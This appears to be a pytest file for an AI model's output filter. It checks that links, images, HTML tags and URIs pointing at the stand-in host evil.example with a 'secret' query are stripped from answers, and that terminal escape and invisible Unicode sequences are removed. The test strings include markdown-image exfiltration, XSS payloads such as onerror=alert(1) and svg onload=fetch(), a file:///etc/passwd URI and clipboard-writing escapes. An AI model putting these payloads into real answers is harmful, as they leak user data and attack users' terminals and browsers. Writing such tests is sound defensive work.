"""Nothing in a checked answer loads, opens or obeys anything; the visible words stay."""

from __future__ import annotations

from pathlib import Path

import pytest

from assistant.guard.engine.gate import PolicyGate
from assistant.text.clean import clean
from tests.guard.policies import open_gate


@pytest.fixture(scope="module")
def gate(repository: Path) -> PolicyGate:
    return open_gate("base", [repository / "policies"])


E = "https://evil.example/?q=secret"
LINKS = [
    f"![x]({E})",
    f"![x](<{E}>)",
    f'![x]({E} "title")',
    f"[x]({E})",
    f"[x]( {E} )",
    f"[x]({E}",
    f"[![x]({E})]({E})",
    f"[x]\u200b({E})",
    f"[x]\x1b[0m({E})",
    f"<{E}>",
    "<mailto:a@evil.example?body=secret>",
    f"[x][1]\n\n[1]: {E}",
    f"![x][1]\n\n[1]: {E}",
    f"   [1]: {E}",
    f'<a href="{E}">x</a>',
    f"<img src={E}>",
    f"<img src='{E}' onerror=alert(1)>",
    f"<IMG SRC={E}",
    f"<svg onload=fetch('{E}')>",
    f"<iframe src={E}></iframe>",
    f"<meta http-equiv=refresh content='0;url={E}'>",
    f"<form action={E}><input name=a></form>",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    E,
    "https://user:pass@evil.example/#secret",
    f"[x]({E.replace('secret', 'a' * 1500)})",
    f"[multi\nline]({E})",
    f"]({E})",
]


@pytest.mark.promise("P14")
@pytest.mark.parametrize("text", LINKS)
def test_thirty_forms_of_links(gate: PolicyGate, text: str) -> None:
    verdict = gate.check("output", f"Before.\n{text}\nafter.")
    assert verdict.rule == "safe-markup"
    for active in ("](", "<http", "<mailto", "]: http", "<a", "<img", "<IMG", "<svg", "<iframe", "<meta", "<form"):
        assert active not in verdict.text
    for active in ("javascript:", "data:text", "file://", "secret", "aaaa", "PHNj"):
        assert active not in verdict.text
    assert verdict.text.startswith("Before.\n")


CONTROLS = [
    "\x1b[2J",
    "\x1b[31m",
    "\x1b]52;c;aGk=\x07",
    "\x1b]8;;https://evil.example\x1b\\",
    "\x1b]0;title\x07",
    "\x1bP1$r\x1b\\",
    "\x1b_app\x1b\\",
    "\x1b^pm\x1b\\",
    "\x1b(B",
    "\x1bc",
    "\x9b2J",
    "\x9d52;c;aGk=\x9c",
    "\x90q\x9c",
    "\x07",
    "\x08",
    "\x00",
    "\x7f",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\U000e0041",
    "\u00ad",
]


@pytest.mark.parametrize("control", CONTROLS)
def test_control_sequences_are_removed_whole(gate: PolicyGate, control: str) -> None:
    verdict = gate.check("output", f"Red{control} text.")
    assert verdict.text in ("Red text.", "Redtext.")  # a sequence with a space in it takes the space along
    assert clean(verdict.text) == verdict.text


def test_a_carriage_return_cannot_overwrite_a_line(gate: PolicyGate) -> None:
    assert gate.check("output", "good\rbad").text == "good\nbad"


@pytest.mark.parametrize(
    "text",
    [
        "The value a[0](x) in brackets [1] and [2].",
        "if a < b and c > d, then e",
        "It costs 3 < 4 dollars [1].",
        "See page [3]: the roof.",
        "Visit https://shop.example/item today.",
        "Ratio 1:2, time 12:30, file: notes.txt",
        "Family 👨‍👩‍👧 and क्‍ष stay.",
        "the data: and more",
    ],
)
def test_ordinary_text_stays(gate: PolicyGate, text: str) -> None:
    verdict = gate.check("output", text)
    if "a[0](x)" in text:  # brackets that Markdown would take for a link are taken apart
        assert "](" not in verdict.text
    else:
        assert (verdict.action, verdict.text) == ("allow", text)
